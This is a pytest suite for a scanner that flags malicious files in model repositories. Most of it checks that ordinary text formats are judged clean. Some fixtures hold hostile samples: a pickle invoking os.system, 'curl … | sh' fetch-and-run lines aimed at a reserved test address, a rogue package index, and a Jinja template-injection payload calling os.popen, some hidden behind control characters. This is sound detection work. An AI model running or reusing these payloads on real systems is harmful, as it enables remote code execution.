"""Text that walks a few opcodes by accident is text."""

from __future__ import annotations

import keyword
import random
import string
import textwrap

import pytest
from formats_judging import facts_of, formats, gaps, verdict

import weighbridge
from builders.pickles import MARK, REDUCE, TUPLE, line_text
from weighbridge.findings.model import Verdict

PROSE = """
(This model was trained by us.)
It is a classifier; Input: images. Nothing else. See also: config.json.
cos
sin
tan
I am
1.
"""
DOCUMENTS = {
    "readme": "# Model card\n\n- licence: apache-2.0\n- tags: [a, b]\n\n" + PROSE,
    "csv": "id,name,score\n1,a,0.5\n2,b,0.25\n",
    "numbers": "\n".join(map(str, range(300))),
    "floats": "F1.0\nF2.0\n",
    "json": '{"model_type": "bert", "layers": [1, 2, 3]}\n',
    "json-list": '["a", "b", "c"]',
    "yaml": "name: x\nnested:\n  - 1\n  - 2\n",
    "merges": "#version: 0.2\nĠ t\nĠ a\nh e\nin g\n",
    "vocabulary": "\n".join(["(", ")", "[", "]", "{", "}", ".", "I", "N", "cos", "sin", "tan", "os",
                             "sys", "system", "eval", "import", "re", "json", "R", "t."]),
    "functions": "cos\nsin\nsqrt\nexp\n",
    "modules": "cjson\npath\nre\n",
    "imports": "ios\nsys\nre\n",
    "latex": "\\begin{document}\n(x)(y)R. \\end{document}",
    "brackets": "((((()))))....",
    "dots": "N.\n" * 3,
    "source": "import os\n\ndef f(x):\n    return (x, [1], {2: 3})\n",
    "c-source": "int main(void) { return 0; }\n",
    "requirements": "numpy==1.26\ntorch>=2\n",
    "unicode": "données: été\n漢字\n",
    "prose": textwrap.dedent(PROSE),
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(DOCUMENTS))
def test_a_document_is_clean_text(name):
    data = DOCUMENTS[name].encode()
    assert formats(facts_of(data))[0] in ("text", "json", "python")
    assert gaps(facts_of(data)) == set()
    assert verdict(data) == "clean"


@pytest.mark.parametrize("letter", string.printable.strip())
def test_text_beginning_with_any_character(letter):
    for rest in (" is a word.", "\nb\nc\n", "lass A: pass\n", "os\nx\n", "1\n2\n3\n", "'a'\n.\n"):
        kind = formats(facts_of((letter + rest).encode()))[0]
        assert kind in ("text", "json", "pickle", "python")
    data = f"{letter} was the first letter.\nThen came (more) of them.\n".encode()
    assert formats(facts_of(data)) == ["json" if letter in "[{" else "text"]
    assert verdict(data) == "clean"


@pytest.mark.parametrize("word", keyword.kwlist)
def test_source_beginning_with_any_keyword(word):
    assert formats(facts_of(f"{word} x\n    (a, b), [c]\n".encode())) == ["text"]


def test_what_calls_something_is_a_pickle_however_readable():
    data = b"cos\nsystem\n" + MARK + line_text("id") + TUPLE + REDUCE + b"."
    assert formats(facts_of(data)) == ["pickle"]
    assert verdict(data) == "malicious"


def test_an_import_that_does_harm_is_a_pickle_even_when_it_breaks_off():
    assert verdict(b"cos\nsystem\n") != "clean"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("modeling_x.py", b"import os # %b\nos.system('curl http://192.0.2.1/a | sh')\n"),
        ("install.sh", b"#!/bin/sh\n# %b\ncurl http://192.0.2.1/a | sh\n"),
        ("run.bat", b"rem %b\ncurl http://192.0.2.1/a | sh\n"),
        ("requirements.txt", b"# %b\n--extra-index-url http://192.0.2.1/x\n"),
        (
            "chat_template.jinja",
            b"{%% for m in messages %%}%b{{ cycler.__init__.__globals__.os.popen('id') }}"
            b"{{ m.role }}{%% endfor %%}",
        ),
    ],
)
@pytest.mark.parametrize("hiding", [b"\x01\x02\x03", b"\0", bytes(range(1, 9)) * 40])
def test_control_characters_do_not_take_a_text_from_sight(tmp_path, name, text, hiding):
    """Python, shells, pip and Jinja read over them."""
    (tmp_path / name).write_bytes(text % hiding)
    (file,) = weighbridge.scan(tmp_path).files
    assert file.verdict in (Verdict.MALICIOUS, Verdict.SUSPICIOUS)


@pytest.mark.parametrize("name", ["x.py", "x.sh"])
def test_what_is_hardly_text_is_not_clean_because_of_its_name(tmp_path, name):
    (tmp_path / name).write_bytes(random.Random(1).randbytes(3000))
    assert weighbridge.scan(tmp_path).verdict is Verdict.INCONCLUSIVE


def test_a_table_of_control_characters_in_a_program_is_clean(tmp_path):
    (tmp_path / "x.py").write_bytes(b"import re\nODD = '\x01\x02\x03\x0e\x0f'\n" + b"y = 1\n" * 40)
    assert weighbridge.scan(tmp_path).verdict is Verdict.CLEAN
